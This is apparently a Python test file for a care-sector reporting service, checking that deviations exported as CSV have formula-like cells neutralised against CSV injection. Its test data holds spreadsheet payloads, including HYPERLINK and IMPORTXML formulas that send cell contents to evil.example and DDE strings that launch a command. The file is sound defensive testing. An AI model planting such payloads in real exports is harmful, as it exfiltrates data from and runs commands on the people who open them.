"""Attack: CSV injection (OWASP "CSV Injection", CWE-1236) through a deviation's export.

Issue #18 item 9. A manager reports a deviation whose free text and name are
spreadsheet formulas. The other side exports it (D-4) as CSV for its own incident
system and opens it in a spreadsheet, which runs the formula: a link that sends
the neighbouring cells away, or a command (DDE). Every CSV the platform writes now
goes through one writer (services.reporting.rendering.spreadsheet) that prefixes a cell
starting with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return with a single
quote, so it is shown as text. Numbers, negative ones too, stay numbers.
"""

from __future__ import annotations

import csv
import io
from typing import Any

from tests.reporting_examples import SOCIAL_MANAGER
from tests.support import HEALTH, SOCIAL

FORMULAS = {
    "what_happened": '=HYPERLINK("https://evil.example/?d="&A1;"Öppna rutinen")',
    "perceived_as": "+SUM(1;2)*cmd|' /C calc'!A0",
    "improvement_proposal": "-2+3+cmd|' /C calc'!A0",
    "reporter_name": "@SUM(1+1)*cmd|' /C calc'!A0",
    "reporter_title": "\t=1+1",
}
SUMMARY = {
    "solution": '\r=IMPORTXML(CONCAT("https://evil.example/?";A2);"//a")',
    "remaining_problems": "=1+1",
    "signer_name": "-Prova Provsson",
    "signer_title": "Enhetschef",
}
DANGEROUS = ("=", "+", "-", "@", "\t", "\r")


def test_formulas_in_a_deviation_are_text_in_its_csv_export(start_service: Any) -> None:
    service = start_service("reporting")
    body = {"category": "communication", "affected_orgs": [SOCIAL.org_id], **FORMULAS}
    with service.client(HEALTH) as health, service.client(SOCIAL_MANAGER) as social:
        created = health.post("/v1/deviations", json=body)
        assert created.status_code == 201, created.text
        deviation_id = created.json()["id"]
        proposed = health.put(f"/v1/deviations/{deviation_id}/summary", json=SUMMARY)
        assert proposed.status_code == 204, proposed.text
        exported = social.get(f"/v1/deviations/{deviation_id}/export", params={"format": "csv"})
        as_json = social.get(f"/v1/deviations/{deviation_id}/export").json()

    assert exported.status_code == 200, exported.text
    rows = dict(csv.reader(io.StringIO(exported.text, newline="")))
    for field, formula in FORMULAS.items():
        # (Free text is stored without its surrounding blanks.)
        assert rows[f"deviation.{field}"] == f"'{formula.strip()}", field
    assert rows["deviation.summary.solution"].startswith("'")
    assert rows["deviation.summary.remaining_problems"] == "'=1+1"
    assert rows["deviation.summary.proposed_by.name"] == "'-Prova Provsson"
    # No cell of the file starts a formula, whichever field it came from.
    for field, value in rows.items():
        assert not field.startswith(DANGEROUS)
        assert not value.startswith(DANGEROUS), (field, value)
    # JSON is not opened by spreadsheets: it carries the text exactly as written.
    assert as_json["deviation"]["what_happened"] == FORMULAS["what_happened"]
